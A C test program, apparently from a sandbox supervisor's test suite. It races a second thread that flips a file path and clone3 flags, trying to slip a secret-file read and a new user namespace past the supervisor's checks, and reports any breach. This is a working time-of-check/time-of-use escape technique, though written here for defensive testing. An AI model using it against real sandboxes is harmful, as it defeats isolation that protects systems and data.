// A supervisor that reads paths or structures from memory and then lets the call go on can be raced by another thread
// (Watson 2007). The path and the clone3 flags here flip between harmless and not while calls are made.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <unistd.h>
#include <linux/openat2.h>
#include <linux/sched.h>
#include <pthread.h>
#include <sys/wait.h>

static int breaches;

static void breach(const char *what) {
    printf("BREACH: %s\n", what);
    fflush(stdout);
    breaches = 1;
}

static void refused(const char *what) {
    const char *name = strerrorname_np(errno);
    printf("refused: %s %s\n", name ? name : "E?", what);
    fflush(stdout);
}
static volatile int running = 1;
static char path[256];
static struct clone_args arguments;

static void *flip(void *_) {
    while (running) {
        strcpy(path, "/proc/self/status");
        arguments.flags = 0;
        __asm__ volatile("" ::: "memory");
        strcpy(path, "@@SECRET_PATH@@");
        arguments.flags = CLONE_NEWUSER;
        __asm__ volatile("" ::: "memory");
    }
    return NULL;
}

int main(void) {
    alarm(15);
    pthread_t thread;
    pthread_create(&thread, NULL, flip, NULL);
    int rounds = 0;
    struct stat own, now;
    stat("/proc/self/ns/user", &own);
    for (; rounds < 20000; rounds++) {
        struct open_how how = {.flags = O_RDONLY};
        int file = syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how);
        char text[64] = "";
        if (file >= 0) {
            if (read(file, text, 63) > 0 && strncmp(text, "Name:", 5)) {
                puts(text);
                breach("the secret by a race");
            }
            close(file);
        }
        arguments.exit_signal = SIGCHLD;
        long child = rounds % 50 ? -1 : syscall(435, &arguments, sizeof arguments);
        if (child == 0) _exit(stat("/proc/self/ns/user", &now) == 0 && now.st_ino != own.st_ino);
        int status = 0;
        if (child > 0) {
            waitpid(child, &status, 0);
            breach("a child by clone3");
        }
        if (breaches) break;
    }
    running = 0;
    pthread_join(thread, NULL);
    printf("rounds: %d\n", rounds);
    return breaches;
}
